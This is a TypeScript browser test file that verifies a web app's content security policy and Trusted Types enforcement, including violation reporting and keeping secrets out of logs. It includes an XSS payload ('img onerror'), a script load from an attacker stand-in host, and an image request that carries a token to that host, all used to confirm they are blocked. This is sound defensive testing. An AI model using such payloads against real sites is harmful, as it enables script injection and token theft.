import { arrive, expect, long, test, visits } from './test.ts';

test('§settings.11 The content policy: no text becomes markup or a script, and each attempt is reported', async ({
  page,
  complaints,
}) => {
  await page.goto('/login');
  const tries = await page.evaluate(() => {
    const attempt = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    return [
      attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
      attempt(() => (document.createElement('script').src = 'https://evil.example/x.js')),
      attempt(() => new DOMParser().parseFromString('<p>', 'text/html')),
      attempt(() => Reflect.get(window, 'trustedTypes').createPolicy('own', { createHTML: (text: string) => text })),
    ];
  });
  expect(tries).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
  await expect.poll(() => complaints.length).toBeGreaterThanOrEqual(4);
  expect(complaints.join('\n')).toMatch(/trusted/i);
  complaints.length = 0;
});

test('§settings.11 The content policy: what a browser reports is in the log, without secrets', async ({
  page,
  product,
  complaints,
}) => {
  await page.goto('/login?token=secret-of-the-page');
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel.png?token=secret-of-the-picture';
  });
  const reports = () =>
    product
      .output()
      .split('\n')
      .filter((line) => line.includes('content policy broken') && line.includes('evil.example'));
  await expect.poll(reports, { timeout: 20_000 }).not.toEqual([]);
  expect(reports()[0]).toContain('"directive":"img-src"');
  expect(product.output()).not.toContain('secret-of-the-');
  expect(complaints.join('\n')).toContain('evil.example');
  complaints.length = 0;
});

// Every journey fails where a page breaks the policy; this one opens a page of each kind, and nothing else.
test('§settings.11 The content policy: no page of a visitor breaks it', { tag: long }, async ({ page, complaints }) => {
  for (const place of visits.filter(({ who, isAnother }) => who === 'visitor' && !isAnother)) await arrive(page, place);
  expect(complaints).toEqual([]);
});
